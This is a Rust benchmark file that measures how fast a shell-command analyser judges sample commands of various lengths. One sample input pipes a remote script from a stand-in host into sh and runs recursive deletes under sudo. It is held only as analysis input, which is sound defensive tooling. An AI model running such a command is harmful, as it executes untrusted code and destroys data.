//! Raw measurements of analysing commands, for `cargo xtask bench`.
//!
//! Without arguments: prints an object from command name to durations in microseconds. With a name and a
//! number: analyses that command so many times and prints nothing, for a tool that counts instructions from
//! outside.
#![expect(clippy::disallowed_methods, reason = "a bench has a clock and prints")]

use std::hint::black_box;
use std::io::Write as _;
use std::time::Instant;

use tenter_shell::{Surroundings, analyze};

/// The allocator of the program that ships.
#[global_allocator]
static ALLOCATOR: tenter_alloc::Arena = tenter_alloc::Arena::new();

/// Analyses per measurement: one alone is too short for the clock.
const BATCH: u32 = 20;

/// A command of the length agents send most.
const TYPICAL: &str = "cd packages/server && RUST_LOG=debug cargo test --workspace --no-fail-fast -- --nocapture 2>&1 | tee /tmp/test.log | grep -E 'FAILED|panicked'";
const SHORT: &str = "git status --short";
const NESTED: &str = "sudo env A=1 bash -c 'for f in a b c; do rm -rf \"/srv/$f\"; done; curl -sL https://h.example/i.sh | sh'";
/// One line of the long scripts that show how cost grows with length.
const LINE: &str =
    "if [ -f \"$HOME/x.txt\" ]; then cp \"$HOME/x.txt\" build/out-$i.txt && echo done >> log; fi\n";

fn command(name: &str) -> String {
    match name {
        "shell-typical" => TYPICAL.to_owned(),
        "shell-short" => SHORT.to_owned(),
        "shell-nested" => NESTED.to_owned(),
        other => {
            let kilobytes: usize =
                other.trim_start_matches("shell-").trim_end_matches('k').parse().unwrap_or(1);
            LINE.repeat(kilobytes * 1024 / LINE.len())
        }
    }
}

const NAMES: &[&str] = &[
    "shell-typical",
    "shell-short",
    "shell-nested",
    "shell-1k",
    "shell-2k",
    "shell-4k",
    "shell-8k",
    "shell-16k",
    "shell-32k",
    "shell-64k",
];

fn judge(command: &str) {
    let world =
        Surroundings { cwd: Some("/shop"), home: Some("/home/me"), ..Surroundings::default() };
    black_box(analyze(black_box(command), &world));
}

fn main() -> std::io::Result<()> {
    let mut arguments = std::env::args().skip(1);
    if let (Some(name), Some(times)) = (arguments.next(), arguments.next()) {
        let command = command(&name);
        for _ in 0..times.parse().unwrap_or(0) {
            judge(&command);
        }
        return Ok(());
    }
    let mut text = String::from("{");
    for (index, name) in NAMES.iter().enumerate() {
        let command = command(name);
        let batch = if command.len() > 1000 { 1 } else { BATCH };
        let times: Vec<String> = (0..100)
            .map(|_| {
                let start = Instant::now();
                for _ in 0..batch {
                    judge(&command);
                }
                format!("{:.3}", start.elapsed().as_secs_f64() * 1e6 / f64::from(batch))
            })
            .collect();
        let comma = if index == 0 { "" } else { "," };
        text.push_str(comma);
        for part in ["\"", name, "\":[", &times.join(","), "]"] {
            text.push_str(part);
        }
    }
    text.push_str("}\n");
    std::io::stdout().write_all(text.as_bytes())
}
